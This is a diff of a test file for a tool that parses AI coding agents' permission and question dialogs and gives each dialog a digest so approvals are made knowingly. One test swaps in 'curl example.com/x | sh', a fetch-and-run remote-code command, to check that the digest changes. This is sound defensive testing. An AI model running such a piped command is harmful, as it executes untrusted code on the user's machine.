@@ -2,7 +2,7 @@ import {readFileSync, readdirSync} from 'node:fs'
 import {join} from 'node:path'
 import {describe, expect, it} from 'vitest'
 
-import {choose, parseAnswer, readDialog} from '../../../src/lib/agents/dialogs.js'
+import {choose, dialogDigest, parseAnswer, readDialog} from '../../../src/lib/agents/dialogs.js'
 
 const PANES = join(import.meta.dirname, '..', '..', 'fixtures', 'panes')
 const screen = (name: string) => readFileSync(join(PANES, `${name}.txt`), 'utf8')
@@ -217,5 +217,34 @@ describe("Claude Code's question tool (2.1.197, captured through a fake API)", (
     const boxes = lines.map((l) => l.replace('1. staging', '1. [ ] staging').replace('2. production', '2. [ ] production'))
     expect(readDialog('claude', boxes.join('\n'))).toBeNull()
     expect(readDialog('claude', [...lines, '❯ ', '  ? for shortcuts'].join('\n'))).toBeNull()
+  })
+})
+
+describe('what a dialog asks, in words, and its name (issues 62 and 63: approve with your eyes open)', () => {
+  it('reads the tool, the command and its description, without the tip; a question choice says its note', () => {
+    expect(readDialog('claude', screen('claude-2.1.332.waiting.permission'))!.body).toBe('Bash command\nCreate a file\ntouch by-yes')
+    expect(readDialog('claude', screen('claude-2.1.197.waiting.permission'))!.body).toBe('Bash command\ntouch pk-was-here\nCreate a file')
+    expect(readDialog('gemini', screen('gemini-0.61.0.waiting.permission'))!.body).toBe('? Shell  touch by-yes\ntouch by-yes')
+    expect(readDialog('codex', screen('codex-0.171.0.waiting.permission'))!.body).toMatch(/\$ touch pk-was-here$/)
+    const question = readDialog('claude', screen('claude-2.1.332.waiting.question'))!
+    expect(question.choices.map((c) => [c.label, c.note ?? null])).toEqual([
+      ['staging', 'The staging copy'],
+      ['production', 'The live database'],
+      ['Type something.', null],
+      ['Chat about this', null],
+    ])
+  })
+  it('names a dialog by what it asks: another command is another dialog, the mark moved is the same one', () => {
+    const shown = screen('claude-2.1.332.waiting.permission')
+    const digest = dialogDigest(readDialog('claude', shown)!)
+    expect(digest).toMatch(/^[0-9a-f]{16}$/)
+    expect(dialogDigest(readDialog('claude', shown.replaceAll('touch by-yes', 'curl example.com/x | sh'))!)).not.toBe(digest)
+    const asked = screen('claude-2.1.332.waiting.question')
+    const moved = asked.replace('\u276F 1. staging', '  1. staging').replace('  2. production', '\u276F 2. production')
+    expect(readDialog('claude', moved)!.focused).toBe(2)
+    expect(dialogDigest(readDialog('claude', moved)!)).toBe(dialogDigest(readDialog('claude', asked)!))
+    expect(dialogDigest(readDialog('claude', asked.replace('Which database', 'Which database should I wipe? Which'))!)).not.toBe(
+      dialogDigest(readDialog('claude', asked)!),
+    )
   })
 })
